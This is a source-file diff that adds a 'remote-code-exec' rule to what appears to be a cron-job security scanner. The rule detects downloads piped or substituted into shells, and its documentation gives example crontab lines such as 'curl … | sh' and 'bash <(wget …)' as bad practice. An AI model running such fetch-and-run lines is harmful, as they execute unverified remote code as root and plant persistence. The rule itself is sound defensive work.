@@ -1,0 +1,85 @@
+import { commandName, intentOf } from '../core/shell/index.js';
+import { codeSource, commandsInside, DOWNLOADERS, interpreterName, program } from '../core/shell/queries.js';
+import type { ShellAnalysis, SimpleCommand, Word } from '../core/shell/types.js';
+import type { FindingDraft, Rule } from './rule.js';
+
+const downloads = (commands: readonly SimpleCommand[]): string | null => {
+  for (const c of commands) {
+    const name = program(c).name;
+    if (name && DOWNLOADERS.has(name)) return name;
+  }
+  return null;
+};
+
+/** The words whose content a command runs as code. */
+function codeWords(name: string | null, args: Word[]): Word[] {
+  if (name === 'eval') return args;
+  if (name === '.' || name === 'source') return args.slice(0, 1);
+  const interpreter = interpreterName(name);
+  if (!interpreter) return [];
+  const source = codeSource(interpreter, args);
+  if (source.kind === 'inline') return source.code ? [source.code] : [];
+  return args.filter((w) => w.expansions.includes('process')).slice(0, 1);
+}
+
+/** Every way this job hands downloaded content to something that runs it, described. */
+function remoteExecutions(analysis: ShellAnalysis): string[] {
+  const found: string[] = [];
+  // `curl … | sh`: a later element of the same pipeline reads code on stdin.
+  for (const pipeline of analysis.pipelines) {
+    const members = pipeline.commands.map((i) => analysis.commands[i]);
+    members.forEach((fetcher, k) => {
+      const fetched = program(fetcher).name;
+      if (!fetched || !DOWNLOADERS.has(fetched)) return;
+      for (const consumer of members.slice(k + 1)) {
+        const { name, args } = program(consumer);
+        const interpreter = interpreterName(name);
+        if (interpreter && codeSource(interpreter, args).kind === 'stdin') found.push(`\`${fetched} … | ${name}\` runs whatever the server sends`);
+      }
+    });
+  }
+  for (const command of analysis.commands) {
+    const { name, args } = program(command);
+    // `bash <(wget …)`, `source <(curl …)`, `bash -c "$(curl …)"`, `eval "$(curl …)"`.
+    for (const word of codeWords(name, args)) {
+      const fetched = downloads(commandsInside(analysis, word));
+      if (fetched) found.push(`\`${commandName(command) ?? name}\` runs the output of \`${fetched}\` (${word.text.length > 40 ? `${word.text.slice(0, 37)}…` : word.text})`);
+    }
+  }
+  return [...new Set(found)];
+}
+
+export const remoteCodeExec: Rule = {
+  id: 'remote-code-exec',
+  title: 'Downloaded code is run directly',
+  practice: 4,
+  severity: 'critical',
+  fixKind: 'none',
+  docs: {
+    rationale:
+      'A job that pipes a download into a shell runs, with the job user’s rights, whatever that server (or anyone who ' +
+      'controls DNS, the network path or the site) sends at that moment — on a schedule, unattended. It is also how ' +
+      'cron persistence is planted (MITRE ATT&CK T1053.003): one line fetches the real payload each time.',
+    bad: [
+      { text: '*/10 * * * * root curl -fsSL https://example.com/update.sh | sh\n' },
+      { text: 'SHELL=/bin/bash\n0 * * * * root bash <(wget -qO- https://example.com/agent)\n' },
+      { text: '0 4 * * * root bash -c "$(curl -fsSL https://example.com/install.sh)"\n' },
+    ],
+    good: [
+      { text: '*/10 * * * * root curl -fsS https://example.com/feed.json | tee /var/lib/app/feed.json >/dev/null\n', note: 'data, not code' },
+      { text: '0 4 * * * root /usr/local/sbin/update-agent\n', note: 'a reviewed local script that verifies what it downloads' },
+      { text: '0 * * * * root curl -fsS https://example.com/data.csv | /usr/bin/python3 /opt/etl/load.py\n', note: 'the script is local; the download is its input' },
+    ],
+    references: ['MITRE ATT&CK T1053.003 (Scheduled Task/Job: Cron)', 'MITRE ATT&CK T1105 (Ingress Tool Transfer)', 'CWE-494 (Download of Code Without Integrity Check)'],
+    remedy:
+      'Download to a file, verify it (a pinned checksum or signature), review it, install it as a root-owned script ' +
+      'and schedule that script. Better: install the software from a signed package repository.',
+  },
+  detect(ctx) {
+    const drafts: FindingDraft[] = [];
+    for (const job of ctx.inventory.jobs) {
+      for (const description of remoteExecutions(intentOf(ctx, job))) drafts.push({ job, message: description });
+    }
+    return drafts;
+  },
+};
